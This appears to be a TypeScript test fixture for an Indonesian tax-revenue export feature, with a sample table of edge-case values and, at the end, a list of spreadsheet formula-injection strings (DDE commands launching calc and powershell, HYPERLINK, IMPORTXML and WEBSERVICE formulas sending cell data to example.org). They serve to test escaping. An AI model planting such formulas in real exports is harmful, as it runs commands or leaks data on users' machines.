import type { ExportDocument, ExportTable } from '../model.ts';

/** Three tax types whose money adds up to the total of the screen. */
export const TABLE: ExportTable = {
  columns: [
    { key: 'code', label: 'Kode', kind: 'id' },
    { key: 'taxType', label: 'Jenis pajak', kind: 'text' },
    { key: 'month', label: 'Bulan', kind: 'month' },
    { key: 'amount', label: 'Realisasi', kind: 'money', additive: true },
    { key: 'transactions', label: 'Transaksi', kind: 'count', additive: true },
    { key: 'achievement', label: 'Pencapaian', kind: 'ratio' },
  ],
  rows: [
    ['007', 'BPHTB', '2026-01-01', '1500000', 3, 0.9885],
    ['3174091234567890', 'PBB-P2; kota', '2026-02-01', '-500000', 1, null],
    ['PKB', 'Reklame "besar"', '2026-03-01', null, 0, 1.5],
  ],
  totals: [null, null, null, '1000000', 4, 0.75],
  rowCount: 3,
};

export const DOCUMENT: ExportDocument = {
  title: 'Penerimaan per jenis pajak',
  agency: 'Badan Pendapatan Contoh',
  language: 'id',
  currency: { code: 'IDR', symbol: 'Rp', digits: 0 },
  sentence: null,
  about: [],
  definitions: [],
  source: '1 Jan – 14 Nov 2026 · Sumber: setoran-2026.csv',
  figures: null,
  cover: [
    { label: 'Periode', text: '1 Jan – 14 Nov 2026' },
    { label: 'Data per tanggal', text: '14 November 2026' },
  ],
  stamp: 'Data per 14 Nov 2026 · generasi 7',
  sections: [{ title: 'Realisasi per jenis pajak', sentence: 'BPHTB terbesar.', chart: null, table: TABLE }],
  words: {
    cover: 'Sampul',
    charts: 'Grafik',
    total: 'Jumlah',
    page: 'Halaman {{n}} dari {{of}}',
    rowsAgree: 'Jumlah baris sama dengan angka di layar.',
    rowsDiffer: '{{column}}: jumlah baris {{sum}}, di layar {{total}}.',
    incomplete: 'INCOMPLETE: {{n}} dari {{of}} baris.',
    cut: ' [dipotong]',
    idNote: 'Kolom kode berisi teks.',
    figures: 'Angka utama',
    about: 'Tentang berkas ini',
    definitions: 'Definisi',
  },
};

/** The sample document with another table. */
export const withTable = (table: ExportTable): ExportDocument => ({
  ...DOCUMENT,
  sections: [{ title: 'Tabel', sentence: null, chart: null, table }],
});

/** Texts that a spreadsheet would compute if they were written unchanged. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"klik")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '=WEBSERVICE("http://example.org")',
  "=2+5+cmd|'/C powershell'!A0",
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
